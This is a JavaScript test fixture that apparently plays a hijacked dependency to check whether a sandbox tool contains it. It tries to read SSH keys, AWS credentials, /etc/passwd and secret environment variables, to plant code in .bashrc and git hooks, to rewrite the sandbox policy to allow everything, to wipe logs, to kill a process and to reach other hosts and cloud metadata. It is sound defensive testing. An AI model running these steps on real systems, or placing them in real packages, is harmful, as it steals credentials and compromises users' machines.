// A dependency that was taken over: loaded into the program's process before its own code, it tries everything, and
// then lets the program do its work. What it stole goes to stderr, where the judge finds it.

import { exec, execFileSync, spawnSync } from 'node:child_process';
import dns from 'node:dns';
import fs from 'node:fs';
import fsp from 'node:fs/promises';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { promisify } from 'node:util';
import { Worker } from 'node:worker_threads';
import facts from './facts.mjs';

const home = (name) => path.join(process.env.HOME ?? facts.home, name);
const project = (name) => path.join(facts.project, name);
const effect = (name) => path.join(facts.effects, name);

const attacks = {
  'read-ssh-key': () => fs.readFileSync(path.join(facts.home, '.ssh/id_rsa'), 'utf8'),
  'read-cloud-credentials': () => fsp.readFile(path.join(facts.home, '.aws/credentials'), 'utf8'),
  'read-passwd': async () => { let text = ''; for await (const part of fs.createReadStream('/etc/passwd', 'utf8')) text += part; return text; },
  'read-key-in-project': () => fs.readFileSync(project('deploy.pem'), 'utf8'),
  'read-own-environment': () => fs.readFileSync('/proc/self/environ', 'latin1'),
  'read-secret-variable': () => process.env.PAYMENT_API_KEY,
  'read-in-worker': () => new Promise((resolve, reject) => {
    const worker = new Worker('require("worker_threads").parentPort.postMessage(require("fs").readFileSync(require("worker_threads").workerData, "utf8"))', { eval: true, workerData: path.join(facts.home, '.ssh/id_rsa') });
    worker.on('message', resolve).on('error', reject);
  }),
  'write-bashrc': () => fs.appendFileSync(home('.bashrc'), '# planted\n'),
  'write-policy': () => fs.writeFileSync(project('safeclaw.config.yaml'), 'version: 1\ndefaultAction: allow\nrules: []\n'),
  'write-log': () => { for (const name of fs.readdirSync(facts.log)) fs.truncateSync(path.join(facts.log, name), 0); },
  'write-package': () => { fs.mkdirSync(project('node_modules/planted')); fs.writeFileSync(project('node_modules/planted/index.js'), ''); },
  'write-source': () => fsp.appendFile(project('package.json'), '\n'),
  'write-git-hook': () => { fs.mkdirSync(project('.git/hooks'), { recursive: true }); fs.writeFileSync(project('.git/hooks/pre-commit'), '#!/bin/sh\n'); },
  'delete-outside': () => fs.unlinkSync(facts.precious),
  'link-outside': () => fs.symlinkSync(facts.home, effect('link')),
  'start-shell': () => promisify(exec)(`echo > ${effect('shell')}`),
  'start-curl': () => execFileSync('curl', ['-s', `http://${facts.host}:${facts.http}/curl`]),
  'start-node': () => { const child = spawnSync(process.execPath, ['-e', `require("fs").writeFileSync(${JSON.stringify(effect('node'))}, "")`], { env: {} }); if (child.error) throw child.error; },
  'http-other-host': async () => (await fetch(`http://${facts.host}:${facts.http}/fetch`)).text(),
  'http-other-port': () => new Promise((resolve, reject) => { http.get({ host: '127.0.0.1', port: facts.neighbour, path: '/get' }, (response) => response.resume().on('end', resolve)).on('error', reject); }),
  'tcp-other-host': () => new Promise((resolve, reject) => { const socket = net.connect(facts.tcp, facts.host, () => socket.end('taken')); socket.resume().on('close', resolve).on('error', reject); }),
  'dns-query': () => { const resolver = new dns.promises.Resolver(); resolver.setServers([`${facts.host}:${facts.dns}`]); return resolver.resolve4('taken.stranger.example'); },
  'end-process': () => process.kill(facts.victim, 'SIGKILL'),
  ...(facts.metadata ? { 'cloud-metadata': async () => (await fetch('http://169.254.169.254/latest/meta-data/', { signal: AbortSignal.timeout(2000) })).text() } : {}),
};

for (const [name, attack] of Object.entries(attacks)) {
  let loot;
  try {
    loot = await attack();
  } catch (error) {
    loot = `(${error.code ?? error.cause?.code ?? error.message})`;
  }
  // Node 18 and 20 write in turns to a pipe that the parent reads late.
  fs.writeSync(2, `intruder ${JSON.stringify([name, typeof loot === 'string' ? loot : null])}\n`);
}
